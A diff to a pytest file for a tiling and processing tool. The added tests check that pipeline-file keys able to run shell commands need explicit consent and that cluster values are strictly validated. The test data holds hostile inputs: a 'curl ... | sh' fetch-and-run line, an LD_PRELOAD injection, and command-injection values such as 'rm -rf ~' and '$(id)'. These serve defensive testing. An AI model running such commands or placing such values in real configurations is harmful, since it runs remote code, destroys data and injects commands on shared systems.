@@ -141,7 +141,7 @@ def test_job_script_from_the_cluster_section(scene, kind, marks):
         job_extra_directives = ["--exclusive"]
         job_script_prologue = ["module load python"]
     """))
-    result = CliRunner().invoke(cli, ["run", str(p), "--job-script"])
+    result = CliRunner().invoke(cli, ["run", str(p), "--job-script"])  # printing needs no --allow-shell
     assert result.exit_code == 0, result.stderr
     script = result.stdout
     for m in marks:
@@ -149,8 +149,15 @@ def test_job_script_from_the_cluster_section(scene, kind, marks):
     # workers leave before the walltime kill, staggered
     assert "--lifetime 115m" in script and "--lifetime-stagger" in script
     assert "module load python" in script and "--nworkers 2" in script
-    plan = CliRunner().invoke(cli, ["run", str(p), "--dry-run"])
+    # the script is printed unchanged; the lines from shell keys are listed on stderr, with their keys
+    assert "[cluster] job_script_prologue" in result.stderr and "    module load python" in result.stderr
+    prefix = "#SBATCH" if kind == "slurm" else "#PBS"
+    assert "[cluster] job_extra_directives" in result.stderr and f"    {prefix} --exclusive" in result.stderr
+    assert "tiledproc" not in script.split("\n")[0]  # the shebang comes first, nothing added
+    plan = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--allow-shell"])
     assert plan.exit_code == 0 and f"{kind.upper()} job queue via dask-jobqueue" in plan.stdout
+    refused = CliRunner().invoke(cli, ["run", str(p), "--dry-run"])
+    assert refused.exit_code == 2 and "[cluster] key 'job_extra_directives'" in refused.stderr
 
 
 @pytest.mark.parametrize("change,message", [
@@ -255,3 +262,189 @@ def test_pipeline_pyramid_option_and_resume_keep_levels(scene):
     assert tp.io.zarr_store.store_levels(scene / "pyr" / "mean.zarr") == ["0", "1", "2"]
     r = run_pipeline(p, RunOptions(progress="off", pyramid=2, resume=True))
     assert r.report.chunks_written == 0
+
+
+# --- what a pipeline file's [cluster] and [run] may do on their own -------------------------------
+
+CLUSTER = """
+    [cluster]
+    type = "{kind}"
+    cores = 2
+    memory = "4GB"
+    walltime = "01:00:00"
+"""
+
+
+def cluster_pipeline(tmp_path, extra="", kind="slurm", out="hpc"):
+    p = pipeline(tmp_path, out)
+    p.write_text(p.read_text() + textwrap.dedent(CLUSTER.format(kind=kind)) + textwrap.dedent(extra))
+    return p
+
+
+def one_error_line(result) -> str:
+    """A user mistake: exit status 2 and one line on stderr, no traceback."""
+    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
+    errors = [line for line in result.stderr.splitlines() if line.startswith("tiledproc: error:")]
+    assert len(errors) == 1, result.stderr
+    return errors[0]
+
+
+@pytest.mark.parametrize("extra,key", [
+    ('job_script_prologue = ["curl https://example.invalid/x | sh"]', "job_script_prologue"),
+    ('job_extra_directives = ["--export=LD_PRELOAD=/tmp/x.so"]', "job_extra_directives"),
+    ('python = "/tmp/not-python"', "python"),
+])
+def test_shell_keys_need_allow_shell(scene, extra, key):
+    p = cluster_pipeline(scene, extra)
+    for args in (["--dry-run"], []):  # refused before any work, also by a dry run
+        line = one_error_line(CliRunner().invoke(cli, ["run", str(p), *args]))
+        assert f"{p}: [cluster] key '{key}':" in line
+        assert "could run any command" in line
+        assert f"tiledproc run {p} --job-script" in line and "--allow-shell" in line
+    assert not (scene / "hpc").exists()
+    assert CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--allow-shell"]).exit_code == 0
+    # the same check from Python
+    with pytest.raises(tp.errors.ConfigError, match=f"key '{key}'"):
+        run_pipeline(p, RunOptions(progress="off"), dry_run=True)
+    run_pipeline(p, RunOptions(progress="off", allow_shell=True), dry_run=True, echo=lambda s: None)
+
+
+def test_several_shell_keys_are_named_in_one_line(scene):
+    p = cluster_pipeline(scene, 'python = "/opt/py/bin/python"\njob_script_prologue = ["module load x"]\n')
+    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--dry-run"]))
+    assert "key 'job_script_prologue'" in line and "so do 'python'" in line
+
+
+def test_shell_keys_do_not_matter_when_the_cluster_section_is_not_used(scene):
+    p = cluster_pipeline(scene, 'job_script_prologue = ["module load x"]')
+    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--scheduler", "threads"])
+    assert r.exit_code == 0, r.stderr
+
+
+@pytest.mark.parametrize("key,value", [
+    ("queue", '"normal; rm -rf ~"'),
+    ("queue", '"normal\\n#SBATCH --wrap=id"'),
+    ("account", '"$(id)"'),
+    ("account", '"-x"'),
+    ("job_name", '"a b"'),
+    ("job_name", '"../x"'),
+    ("job_name", '"x" ' + "# " + "n" * 70),  # (a comment: still fine)
+    ("log_directory", '"logs dir"'),
+    ("log_directory", '"$HOME/logs"'),
+    ("local_directory", '"$(whoami)"'),
+    ("local_directory", '"/tmp/`id`"'),
+    ("local_directory", '"${X:-$(id)}"'),
+    ("local_directory", '"--foo"'),
+    ("interface", '"ib0 --protocol x"'),
+    ("interface", '"abcdefghijklmnop"'),
+    ("memory", '"32GB; id"'),
+    ("memory", '"0GB"'),
+    ("memory", '"lots"'),
+    ("walltime", '"02:00:00\\nid"'),
+    ("walltime", '" 02:00:00"'),
+    ("start_timeout", '"soon"'),
+    ("start_timeout", '"00:00:00"'),
+    ("cores", "1000000"),
+    ("cores", "100000000000000000000000"),
+    ("jobs", "0"),
+    ("processes", "3"),  # more than cores
+])
+def test_cluster_values_pasted_into_the_script_are_strict(scene, key, value):
+    p = cluster_pipeline(scene)
+    text = p.read_text()
+    line = f"{key} = {value}\n"
+    if f"\n{key} = " in text:
+        text = "\n".join(line.rstrip("\n") if t.startswith(f"{key} = ") else t for t in text.split("\n"))
+    else:
+        text += line
+    p.write_text(text)
+    if key == "job_name" and "#" in value:  # control: a valid name with a long comment
+        load_pipeline(p)
+        return
+    with pytest.raises(tp.errors.ConfigError) as e:
+        load_pipeline(p)
+    assert f"[cluster] key '{key}'" in str(e.value)
+    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--job-script"]))
+    assert f"[cluster] key '{key}'" in line
+
+
+@pytest.mark.parametrize("value", ["$TMPDIR", "/scratch/${USER}/dask", "~/dask-tmp", "/local/tmp"])
+def test_local_directory_may_use_variables(scene, value):
+    p = cluster_pipeline(scene, f'local_directory = "{value}"\n')
+    r = CliRunner().invoke(cli, ["run", str(p), "--job-script"])
+    assert r.exit_code == 0, r.stderr
+    assert f"--local-directory {value}" in r.stdout
+
+
+def test_a_scheduler_address_in_the_file_needs_consent(scene):
+    from tiledproc.pipeline.run import resolve
+
+    p = pipeline(scene, "remote")
+    p.write_text(p.read_text() + '\n[run]\nscheduler = "tcp://203.0.113.7:8786"\n')
+    line = one_error_line(CliRunner().invoke(cli, ["run", str(p), "--dry-run"]))
+    assert f"{p}: [run] key 'scheduler':" in line and "'tcp://203.0.113.7:8786'" in line
+    assert "--allow-remote-scheduler" in line and "--scheduler tcp://203.0.113.7:8786" in line
+    line = one_error_line(CliRunner().invoke(cli, ["run", str(p)]))  # a run: refused before connecting
+    assert "[run] key 'scheduler'" in line and not (scene / "remote").exists()
+    for args in (["--allow-remote-scheduler"], ["--scheduler", "tcp://203.0.113.7:8786"]):
+        r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", *args])
+        assert r.exit_code == 0, r.stderr
+        assert "distributed cluster at tcp://203.0.113.7:8786" in r.stdout
+    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run", "--scheduler", "threads"])
+    assert r.exit_code == 0 and "local threads" in r.stdout
+    loaded = load_pipeline(p)
+    with pytest.raises(tp.errors.ConfigError, match=r"\[run\] key 'scheduler'"):
+        resolve(loaded, RunOptions())
+    assert resolve(loaded, RunOptions(allow_remote_scheduler=True))[0].address == "tcp://203.0.113.7:8786"
+    assert resolve(loaded, RunOptions(scheduler="tcp://203.0.113.7:8786"))[0].kind == "address"
+
+
+@pytest.mark.parametrize("kind,command", [("slurm", "sbatch"), ("pbs", "qsub")])
+def test_a_cluster_run_without_the_submit_command(scene, tmp_path_factory, monkeypatch, kind, command):
+    from tiledproc.engine.jobqueue import make_cluster
+
+    empty = tmp_path_factory.mktemp("bin")
+    monkeypatch.setenv("PATH", str(empty))  # no sbatch, no qsub
+    p = cluster_pipeline(scene, kind=kind)
+    line = one_error_line(CliRunner().invoke(cli, ["run", str(p)]))
+    assert f"{command}, which is not on PATH" in line
+    assert f"not a {kind.upper()} submit host" in line
+    assert "--cluster local:N" in line and "--scheduler tcp://" in line
+    assert not (scene / "hpc").exists()  # checked before any output is made
+    # a dry run submits nothing, so it works anywhere
+    r = CliRunner().invoke(cli, ["run", str(p), "--dry-run"])
+    assert r.exit_code == 0, r.stderr
+    with pytest.raises(tp.errors.ClusterError, match=f"{command}, which is not on PATH"):
+        make_cluster(load_pipeline(p).cluster)
+
+
+FAKE_SBATCH = """#!/bin/sh
+cp "$1" "{dir}/submitted.sh"
+echo "Submitted batch job 4242"
+"""
+FAKE_SCANCEL = """#!/bin/sh
+echo "$@" >> "{dir}/cancelled"
+"""
+
+
+def test_a_cluster_that_never_gets_workers_gives_up(scene, tmp_path_factory, monkeypatch):
+    """A fake sbatch accepts the jobs, no worker ever joins: the run stops after start_timeout,
+    the jobs are cancelled, and the lines of the shell keys were shown before submitting."""
+    bin_dir = tmp_path_factory.mktemp("bin")
+    for name, text in (("sbatch", FAKE_SBATCH), ("scancel", FAKE_SCANCEL)):
+        f = bin_dir / name
+        f.write_text(text.format(dir=bin_dir))
+        f.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
+    p = cluster_pipeline(scene, 'start_timeout = "00:00:03"\njob_script_prologue = ["echo prologue-ran"]\n')
+    start = time.monotonic()
+    r = CliRunner().invoke(cli, ["run", str(p), "--allow-shell", "--progress", "off"])
+    line = one_error_line(r)
+    assert time.monotonic() - start < 60
+    assert "No dask worker joined within start_timeout = '00:00:03'" in line
+    assert "SLURM jobs 4242, now cancelled" in line and "squeue -u $USER" in line
+    assert "[cluster] job_script_prologue adds these lines to every batch script" in r.stderr
+    assert "    echo prologue-ran" in r.stderr
+    assert "echo prologue-ran" in (bin_dir / "submitted.sh").read_text()
+    assert "4242" in (bin_dir / "cancelled").read_text()
